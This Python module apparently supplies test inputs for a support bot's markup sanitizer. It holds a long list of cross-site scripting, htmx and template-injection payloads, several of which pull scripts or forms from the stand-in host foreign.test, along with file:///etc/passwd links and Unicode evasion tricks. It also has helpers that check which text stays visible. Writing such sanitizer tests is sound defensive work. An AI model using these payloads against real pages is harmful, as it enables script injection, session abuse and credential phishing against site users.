"""Texts that attack a page, and what of them has to be seen.

The list is our own, with one or more for each known way in. `SUPPORTBOT_CORPORA` may name a folder with others' lists
(pat/xss.txt, pat/ssti.txt, blns.json), which are used beside it.
"""

from __future__ import annotations

import json
import os
import unicodedata
from collections.abc import Iterator
from pathlib import Path

from supportbot.markup import Block, Run, blocks

CORPORA = os.environ.get("SUPPORTBOT_CORPORA", "")
LONGEST = 1_500
"""Longer ones are left out: they say nothing new."""
FOREIGN = "foreign.test"
"""Whatever is asked of this host was asked because of a text."""

OWN = (
    # scripts and handlers
    "<script>alert(1)</script>",
    '"><script src=//foreign.test/x.js></script>',
    "</textarea></title></script><script>alert(2)</script>",
    "<ScRiPt\t>alert(3)</sCrIpT\n>",
    "<img src=x onerror=alert(4)>",
    '<img src="//foreign.test/pixel.gif">',
    "<img/src='x'/onerror='alert(5)'//",
    "<svg onload=alert(6)>",
    "<svg><script>alert&#40;7)</script></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    '<svg><use href="//foreign.test/x.svg#x"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(9)">press</maction></math>',
    "<body onload=alert(10)><body onpageshow=alert(11)>",
    "<details open ontoggle=alert(12)><summary>more</summary></details>",
    "<input autofocus onfocus=alert(13)><select autofocus onfocus=alert(14)>",
    "<video><source onerror=alert(15)></video><audio src=x onerror=alert(16)>",
    "<marquee onstart=alert(17)>slow</marquee>",
    "<div style=animation-name:x onanimationstart=alert(18)>",
    # other elements that act
    "<iframe srcdoc='<script>parent.alert(19)</script>'></iframe>",
    "<iframe src=javascript:alert(20)></iframe>",
    "<object data=data:text/html,<script>alert(21)</script>></object>",
    "<embed src=//foreign.test/x.swf>",
    '<meta http-equiv=refresh content="0;url=//foreign.test/">',
    "<base href=//foreign.test/>",
    "<link rel=stylesheet href=//foreign.test/x.css>",
    "<style>@import'//foreign.test/x.css';*{background:url(//foreign.test/b)}</style>",
    "<template shadowrootmode=open><script>alert(22)</script></template>",
    "<form action=//foreign.test/><button>Sign in again</button></form>",
    '<button form="reply-form" formaction="//foreign.test/">Send</button>',
    # out of an attribute, out of a comment, out of what a parser mends
    '" autofocus onfocus="alert(23)" x="',
    "' onmouseover='alert(24)' x='",
    "`onmouseover=alert(25)`",
    "--><img src=x onerror=alert(26)><!--",
    "]]><img src=x onerror=alert(27)><![CDATA[",
    '<noscript><p title="</noscript><img src=x onerror=alert(28)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(29)&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(30)>">',
    "&lt;img src=x onerror=alert(31)&gt; &#60;script&#62;alert(32)&#60;/script&#62;",
    "<<img src=x onerror=alert(33)//<",
    "<img src=x:x\x0bonerror\x0c=alert(34)>",
    # styles
    '<p style="background:url(javascript:alert(35));width:expression(alert(36))">x',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Nothing to see here',
    # names that hide the page's own
    '<a id=supportbot></a><a id=supportbot name=open href="javascript:alert(37)">x</a>',
    "<form id=reply-form><input name=csrf value=x><input name=action></form>",
    "<img name=body><img name=getElementById><img name=supportbotConsole>",
    "__proto__ constructor.prototype [object Object]",
    # htmx, and other markup that scripts read
    '<div hx-get="/console/accounts" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<div hx-on::load="alert(38)" hx-on:htmx:load="alert(39)" data-hx-on:click="alert(40)">x</div>',
    '<div data-hx-post="/console/sign-out" data-hx-trigger="load" hx-vals="js:{x:alert(41)}">x</div>',
    '<button data-insert="x" data-dialog="transfer" data-claim>press</button><p id=answer hx-swap-oob=true>x</p>',
    # links, in HTML and in Markdown
    '<a href="javascript:alert(42)">press me</a>',
    "[press me](javascript:alert(43)) [and me](JaVaScRiPt:alert(44)) [or me](java\tscript:alert(45))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nik8L3NjcmlwdD4=) [b](vbscript:msgbox(47)) [c](<javascript:alert(48)>)",
    "[d](&#106;avascript:alert(49)) [e](java&#x0A;script:alert(50)) [f](\x01javascript:alert(51)) [g](&colon;//foreign.test)",
    "[h](//foreign.test/h) [i](\\\\foreign.test/i) [j](/console/sign-out) [k](https:foreign.test) [l](blob:x) [m](file:///etc/passwd)",
    "javascript:alert(52)",
    "java\nscript:alert(53)",
    "jav\u0430script:alert(54) \uff4aavascript:alert(55) javascript\u2236alert(56)",
    "//foreign.test/%0d%0aSet-Cookie:x=1",
    "<javascript:alert(57)> <https://foreign.test/'onmouseover='alert(58)> https://foreign.test/\"onmouseover=alert(59)//",
    '![x](//foreign.test/pixel.gif) ![y](javascript:alert(60)) ![z](https://foreign.test/p.gif "onload=alert(61)")',
    "[x]: javascript:alert(62)\n\n[press][x] and ![look][x]",
    '[x](https://foreign.test/" onclick="alert(63) "title\' onclick=\'alert(64)")',
    '```"><img/src/onerror=alert(65)>\n</code></pre><img src=x onerror=alert(66)>\n```',
    "| <img src=x onerror=alert(67)> | [x](javascript:alert(68)) |\n| --- | :-: |\n| <script>alert(69)</script> | `<b>` |",
    "# <img src=x onerror=alert(70)>\n> - 1. <svg/onload=alert(71)>\n***<b>***",
    # templates, here and in other languages
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {%if 1%}x{%endif%} {{''.__class__.__mro__[1].__subclasses__()}}",
    "{{constructor.constructor('alert(72)')()}} [[${7*7}]] *{7*7} @(7*7) {customer} {agent} %s %n {0.__class__}",
    # letters that mislead
    "\u202e\u2066exe.gnp\u2069 <img src=x onerror=alert(73)>",
    "\x00<scr\x00ipt>alert(74)</scr\x00ipt>\x1b[31m\x07",
    "\ufeff\u200b<\u0000img src=x onerror=alert(75)>\ufffe \ud800",
    "\uff1cimg src=x onerror=alert(76)\uff1e \u2039script\u203a +ADw-script+AD4-alert(77)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(78)%3C/script%3E \\x3cscript\\x3e \\u003cimg src=x onerror=alert(79)\\u003e",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357 <b>bold</b>",
)


def texts() -> list[str]:
    """All of them, each once."""
    found = [*OWN, *(_corpora(Path(CORPORA)) if CORPORA else ())]
    return [text for text in dict.fromkeys(found) if shown(text) and len(text) <= LONGEST]


def _corpora(folder: Path) -> Iterator[str]:
    for name in ("pat/xss.txt", "pat/ssti.txt"):
        yield from (folder / name).read_text("utf-8", "replace").split("\n")
    yield from json.loads((folder / "blns.json").read_text("utf-8"))


def shown(text: str) -> str:
    """What of the text can be seen: without spaces, and without what has no form of its own."""
    return "".join(sign for sign in text if unicodedata.category(sign)[0] not in "CZ" and sign != "\ufffd")


def of_markdown(text: str) -> str:
    """What can be seen of it as Markdown; the marks before list items are not looked at."""
    return shown("".join(_words(block) for block in blocks(text)))


def _words(block: Block) -> str:
    if block.kind == "code":
        return block.text
    return _runs(block.runs) + "".join(_runs(cell) for row in block.rows for cell in row)


def _runs(runs: tuple[Run, ...]) -> str:
    return "".join(run.text for run in runs)
